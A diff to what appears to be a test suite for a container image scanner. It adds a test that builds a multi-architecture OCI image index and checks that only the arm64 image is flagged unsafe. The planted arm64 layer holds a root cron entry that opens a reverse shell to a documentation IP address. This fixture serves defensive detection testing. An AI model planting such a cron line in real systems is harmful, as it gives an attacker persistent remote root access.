@@ -5,7 +5,7 @@ import subprocess
 import tarfile
 
 import support
-from support import FAILED, SAFE, UNKNOWN, hullcheck
+from support import FAILED, SAFE, UNKNOWN, UNSAFE, hullcheck
 
 
 def essence(report):
@@ -91,6 +91,41 @@ def several_images_in_one_archive():
     report = scan(path, code=UNKNOWN)
     assert len(report["results"]) == 2 and report["verdict"] == "unknown", report
     assert "results" not in scan(path, "--tag", "two:1", code=UNKNOWN)
+
+
+def every_platform_of_an_index():
+    """Miners were shipped for one processor alone: each platform is an image of its own."""
+    place = support.scratch() / "platforms"
+    store = place / "blobs" / "sha256"
+    store.mkdir(parents=True)
+
+    def put(data):
+        digest = support.sha256(data)
+        (store / digest.removeprefix("sha256:")).write_bytes(data)
+        return {"digest": digest, "size": len(data)}
+
+    base = {"etc/os-release": 'ID=debian\nVERSION_ID="12"\n', "var/lib/dpkg/status":
+            "Package: base-files\nStatus: install ok installed\nArchitecture: all\nVersion: 12.4\n\n"}
+    manifests = []
+    for architecture, files in (("amd64", {}), ("arm64", {"etc/cron.d/x": "* * * * * root bash -i >& /dev/tcp/203.0.113.5/443 0>&1\n"})):
+        layer = support.layer(base | files)
+        config = json.loads(support.image_config([support.sha256(layer)])) | {"architecture": architecture}
+        manifest = {"schemaVersion": 2, "mediaType": "application/vnd.oci.image.manifest.v1+json",
+                    "config": {"mediaType": "application/vnd.oci.image.config.v1+json", **put(json.dumps(config).encode())},
+                    "layers": [{"mediaType": "application/vnd.oci.image.layer.v1.tar", **put(layer)}]}
+        manifests.append({"mediaType": manifest["mediaType"], "platform": {"os": "linux", "architecture": architecture},
+                          **put(json.dumps(manifest).encode())})
+    index = json.dumps({"schemaVersion": 2, "mediaType": "application/vnd.oci.image.index.v1+json", "manifests": manifests})
+    nested = {"mediaType": "application/vnd.oci.image.index.v1+json", **put(index.encode())}
+    (place / "index.json").write_text(json.dumps({"schemaVersion": 2, "manifests": [nested]}))
+    (place / "oci-layout").write_text('{"imageLayoutVersion":"1.0.0"}')
+    one = scan(f"oci:{place}", "--platform", "linux/amd64")
+    assert one["image"]["platform"] == "linux/amd64" and not one["threats"], one
+    both = scan(f"oci:{place}", "--platform", "all", code=UNSAFE)
+    assert [result["image"]["platform"] for result in both["results"]] == ["linux/amd64", "linux/arm64"], both
+    assert [result["verdict"] for result in both["results"]] == ["safe", "unsafe"] and both["verdict"] == "unsafe", both
+    none = hullcheck("image", f"oci:{place}", "--platform", "linux/s390x", database=support.database())
+    assert none.code == FAILED and "s390x" in none.err and "linux/arm64" in none.err, none
 
 
 def docker_engine():
@@ -187,5 +222,5 @@ def root_file_system():
 
 support.need_shared()
 support.need_root()
-support.run(archive_plain, archive_compressed_and_stream, layout_folder_and_tar, several_images_in_one_archive,
+support.run(archive_plain, archive_compressed_and_stream, layout_folder_and_tar, several_images_in_one_archive, every_platform_of_an_index,
             docker_engine, registry_open, registry_behind_password_and_tls, root_file_system)
